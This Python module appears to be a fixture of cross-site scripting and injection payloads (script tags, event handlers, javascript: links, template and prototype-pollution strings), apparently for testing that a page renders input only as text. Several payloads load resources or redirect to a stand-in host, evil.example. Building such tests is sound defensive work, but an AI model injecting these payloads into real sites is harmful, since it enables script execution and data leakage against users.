"""Markup that would set `window.pwned`, or ask another host, wherever a page took it for more than text."""

ELSEWHERE = "https://evil.example"

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    f"<img src={ELSEWHERE}/pixel.png>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<details open ontoggle=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href=javascript:window.pwned=1 autofocus onfocus=window.pwned=1>",
    "[click](javascript:window.pwned=1)",
    "[click](data:text/html,<script>opener.pwned=1</script>)",
    f"![picture]({ELSEWHERE}/pixel.png)",
    "</script><script>window.pwned=1</script>",
    "</textarea></title></style><script>window.pwned=1</script>",
    "<!--><script>window.pwned=1</script>-->",
    '"><script>window.pwned=1</script>',
    "'-(window.pwned=1)-'",
    "javascript:/*--></title></style>*/window.pwned=1//",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{% print(7*7) %}${window.pwned=1}#{window.pwned=1}",
    f"<style>@import '{ELSEWHERE}/x.css';</style><link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<base href={ELSEWHERE}/><meta http-equiv=refresh content=0;url={ELSEWHERE}/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    '{"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 1}}}',
)
"""Each fits into one line."""
